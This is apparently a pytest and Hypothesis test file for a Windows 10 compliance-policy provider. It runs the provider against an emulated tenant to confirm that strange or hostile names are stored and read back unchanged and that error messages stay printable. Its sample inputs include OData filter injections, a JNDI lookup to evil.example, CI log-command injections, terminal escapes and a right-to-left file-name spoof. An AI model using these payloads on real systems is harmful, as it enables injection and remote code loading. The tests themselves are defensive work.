"""Names that mean harm, or are only strange: through the real provider host to the emulated tenant and back.

What may be written reads back as it was and shows no difference; what may not is refused before a request is made.
"""

from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from providers.graph.client import GraphClient
from providers.graph.connection import Connection
from providers.graph.directory import GROUP, look_up
from providers.graph.errors import AmbiguousNameError
from providers.windows10_compliance_policy.provider import Windows10CompliancePolicyProvider
from sandbox.tenant.objects import Group
from sandbox.tenant.server import TenantServer

if TYPE_CHECKING:
    from tests.providers.conftest import Host, Hosts, Proxy

ODD: str = "'\"%#/\\&+?$@:;<>{}()[]|=~ \t\n\r\x85\u2028"
LETTERS = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
NAMES = st.one_of(
    st.text(LETTERS, min_size=1, max_size=60),
    st.text(st.sampled_from(ODD + "aé́😀‮​"), min_size=1, max_size=60),
    st.sampled_from(
        [
            "' or startswith(displayName,'a') or displayName eq '",
            "a' or 'a' eq 'a",
            "%27%20or%201%20eq%201",
            "name\n::error::not ours",
            "##vso[task.setvariable variable=x]y",
            "\x1b[31mred\x1b[0m",
            "${jndi:ldap://evil.example}",
            "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
            "👩‍👩‍👧‍👦",
            "04da6b54-80e4-46f7-96ec-b56ff0331ba9x",
        ]
    ),
)
ACTIONS = [
    {
        "ruleName": "PasswordRequired",
        "scheduledActionConfigurations": [
            {
                "actionType": "block",
                "gracePeriodHours": 0,
                "notificationTemplateId": "",
                "notificationMessageCCList": [],
            }
        ],
    }
]
FAST = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def inputs(name: str, description: str) -> dict[str, Any]:
    return {
        "displayName": name,
        "description": description,
        "scheduledActionsForRule": ACTIONS,
        "assignments": [{"target": {"@odata.type": "#microsoft.graph.allDevicesAssignmentTarget"}}],
    }


@pytest.fixture
def policy(hosts: "Hosts") -> "Host":
    return hosts.of(Windows10CompliancePolicyProvider())


@FAST
@given(name=NAMES, description=NAMES)
@example(name="n" * 256, description="d" * 5000)
@example(name="😀" * 128, description="é" * 300)
def test_a_name_reads_back_as_it_was(tenant: TenantServer, policy: "Host", name: str, description: str) -> None:
    tenant.reset()
    checked, failures = policy.check(inputs(name, description))
    assert failures == []
    assert (checked["displayName"], checked["description"]) == (name, description)
    id_, _ = policy.create(checked)
    stored = tenant.state.compliance_policies[id_].members
    assert (stored["displayName"], stored["description"]) == (name, description)
    _, state, read_inputs = policy.read(id_, {**checked})
    assert (read_inputs["displayName"], read_inputs["description"]) == (name, description)
    assert policy.diff(id_, state, checked) is False
    policy.delete(id_, state)


@pytest.mark.parametrize("member", ["displayName", "description"])
@pytest.mark.parametrize("text", ["a\x00b"], ids=["nul"])
def test_text_that_cannot_be_stored_is_refused_before_a_request(
    tenant: TenantServer, policy: "Host", member: str, text: str
) -> None:
    _, failures = policy.check({**inputs("name", "description"), member: text})
    assert [where for where, _ in failures] == [member]
    assert "NUL" in failures[0][1]
    assert tenant.requests == []


@pytest.fixture
def graph(trusted: None, proxy: "Proxy") -> GraphClient:  # noqa: ARG001 - for its effect
    server = proxy.server
    secret = server.secrets()["ARM_CLIENT_SECRET"]
    connection = Connection(server.tenant_id, server.client_id, client_secret=secret, metadata_host=proxy.double.host)
    return GraphClient(connection)


ID = "b0000000-0000-4000-8000-0000000000{:02}"


@FAST
@given(name=NAMES, other=NAMES)
def test_a_name_finds_only_what_is_named_so(graph: GraphClient, tenant: TenantServer, name: str, other: str) -> None:
    tenant.reset()
    with tenant.state.lock:
        tenant.state.groups.clear()
        for number, one in enumerate(dict.fromkeys([name, f"{other}!"])):
            tenant.state.groups[ID.format(number)] = Group(ID.format(number), one)
    if name.casefold() != f"{other}!".casefold():
        assert look_up(graph, GROUP, name) == ID.format(0)


@FAST
@given(name=NAMES)
def test_a_name_that_nobody_has_finds_nobody(graph: GraphClient, tenant: TenantServer, name: str) -> None:
    tenant.reset()
    with tenant.state.lock:
        tenant.state.groups.clear()
        tenant.state.groups[ID.format(0)] = Group(ID.format(0), f"{name}, and more")
    with pytest.raises(AmbiguousNameError) as failure:
        look_up(graph, GROUP, name)
    assert_harmless(str(failure.value))


def assert_harmless(message: str) -> None:
    """One line, with nothing in it that moves a cursor, hides, or turns text around."""
    assert message.isprintable()


@FAST
@given(name=NAMES)
def test_foreign_names_in_errors_are_harmless(graph: GraphClient, tenant: TenantServer, name: str) -> None:
    tenant.reset()
    with tenant.state.lock:
        tenant.state.groups.clear()
        for number in (1, 2):
            tenant.state.groups[ID.format(number)] = Group(ID.format(number), name)
    with pytest.raises(AmbiguousNameError) as failure:
        look_up(graph, GROUP, name)
    assert_harmless(str(failure.value))


def assigned(count: int) -> list[dict[str, Any]]:
    kind = "#microsoft.graph.groupAssignmentTarget"
    return [
        {"target": {"@odata.type": kind, "groupId": f"c0000000-0000-4000-8000-{number:012}"}} for number in range(count)
    ]


def test_ten_thousand_assignments_are_one_request(
    tenant: TenantServer, policy: "Host", asked: Callable[[], list[str]]
) -> None:
    """What Graph's own limit is, is not known: this is ours."""
    with tenant.state.lock:
        for one in assigned(10_000):
            group = one["target"]["groupId"]
            tenant.state.groups[group] = Group(group, group)
    checked, failures = policy.check({**inputs("many", "assignments"), "assignments": assigned(10_000)})
    assert failures == []
    asked()
    id_, state = policy.create(checked)
    assert [line for line in asked() if line.endswith("/assign")] == ["POST policies/{id}/assign"]
    assert len(tenant.state.compliance_policies[id_].assignments) == 10_000
    assert policy.diff(id_, state, checked) is False
    policy.delete(id_, state)
